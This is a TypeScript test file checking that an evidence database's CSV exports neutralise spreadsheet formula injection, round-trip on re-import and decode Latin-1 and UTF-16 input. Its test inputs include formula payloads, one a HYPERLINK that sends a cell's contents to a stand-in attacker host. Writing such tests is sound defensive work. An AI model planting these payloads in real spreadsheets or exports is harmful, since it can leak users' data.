import { cpSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { seedsFolder } from '../../src/seeding/prepare-database.ts';
import { importBytes, importTexts } from '../importing/support.ts';
import { startApi, type TestApi } from '../support/api.ts';

/** What a spreadsheet would run, what only looks as if we had guarded it, and what is neither. */
const texts = [
  '=1+1',
  '+1',
  '-44 HU',
  '@SUM(A1)',
  '＝1+1',
  '＋1',
  '－1',
  '＠x',
  "'=1+1",
  "''-2",
  "'quoted'",
  "'",
  '=HYPERLINK("http://evil.example?x="&A1,"click")',
];
const formula = /^[=+\-@\t\r\n＝＋－＠]/;
const number = /^-?[0-9]+(?:\.[0-9]+)?(?:e[-+]?[0-9]+)?$/;

let api: TestApi;
const folder = mkdtempSync(join(tmpdir(), 'evidence-formulas-'));
const path = (id: string) => join(folder, 'studies', `${id}.json`);
beforeAll(async () => {
  cpSync(seedsFolder, folder, { recursive: true });
  const study = JSON.parse(readFileSync(path('shea-2009'), 'utf8'));
  const [outcome] = study.outcomes;
  study.outcomes = texts.map((text, place) => ({
    ...outcome,
    id: `o${place + 1}`,
    effectBasis: text,
    subgroup: text,
    method: text,
    unit: text,
  }));
  Object.assign(study, { title: "'=title", acronym: '@acronym', funding: '-funding' });
  writeFileSync(path('shea-2009'), JSON.stringify(study));
  api = await startApi(folder);
});
afterAll(async () => {
  await api.close();
  rmSync(folder, { recursive: true });
});

const rowsOf = (text: string): Record<string, string>[] => parse(text, { columns: true });

test('no cell of any CSV begins as a formula, and numbers stay numbers', async () => {
  let negative = 0;
  for (const url of [
    '/studies?format=csv',
    '/outcomes?format=csv',
    '/claims?format=csv',
    '/export/studies.csv',
    '/export/outcomes.csv',
    '/export/claims.csv',
    '/export/escalc.csv',
    '/aggregate?groupBy=intervention&format=csv',
    '/meta-analysis?measure=CAC&intervention=vitamin_k&species=human&format=csv',
  ]) {
    const cells = rowsOf((await api.get(url)).text).flatMap((row) => Object.values(row));
    expect(cells.length, url).toBeGreaterThan(0);
    const run = cells.filter((cell) => formula.test(cell) && !number.test(cell));
    expect(run, url).toEqual([]);
    negative += cells.filter((cell) => cell.startsWith('-')).length;
  }
  expect(negative).toBeGreaterThan(10);
});

test('imported again, each text is what it was', async () => {
  const before = (await api.get('/studies/shea-2009')).text;
  const { text } = await api.get('/export/outcomes.csv');
  const report = await importTexts(api.database, { 'outcomes.csv': text }, { onConflict: 'update' });
  expect(report.entries).toEqual([]);
  expect(report.counts).toMatchObject({ updated: 0, rejected: 0 });
  expect((await api.get('/studies/shea-2009')).text).toBe(before);
  // Where it had been lost before, it comes back.
  const changed = JSON.parse(readFileSync(path('shea-2009'), 'utf8'));
  for (const outcome of changed.outcomes) outcome.effectBasis = 'lost';
  await importTexts(api.database, { 'studies.json': JSON.stringify(changed) }, { onConflict: 'update' });
  const restored = await importTexts(api.database, { 'outcomes.csv': text }, { onConflict: 'update' });
  expect(restored.counts).toMatchObject({ updated: texts.length, rejected: 0 });
  const { body } = await api.get('/studies/shea-2009');
  expect(body.outcomes.map(({ effectBasis }: { effectBasis: string }) => effectBasis)).toEqual(texts);
});

test('a CSV in Latin-1 or UTF-16 is read as such, and told: no letter becomes another', async () => {
  const { text } = await api.get('/imports/templates/studies');
  const encodings = {
    'mueller-2024': { as: (all: string) => Buffer.from(all, 'latin1'), told: 'Windows-1252' },
    'mueller-2025': { as: (all: string) => Buffer.from(`\uFEFF${all}`, 'utf16le'), told: 'UTF-16LE' },
  };
  for (const [id, { as, told }] of Object.entries(encodings)) {
    const named = text
      .replace(/(?<=\r\n)[^,]+/, id)
      .replaceAll('10.3945/ajcn.2008.27338', `10.1234/${id}`)
      .replaceAll('19386744', id.replace('mueller-', '1'))
      .replace('Shea MK', 'Müller K');
    const report = await importBytes(api.database, 'studies.csv', as(named));
    expect(report.counts).toMatchObject({ created: 1, rejected: 0 });
    expect(JSON.stringify(report.files[0])).toContain(told);
    const { body } = await api.get(`/studies/${id}`);
    expect(body.publication.authors[0]).toBe('Müller K');
  }
});
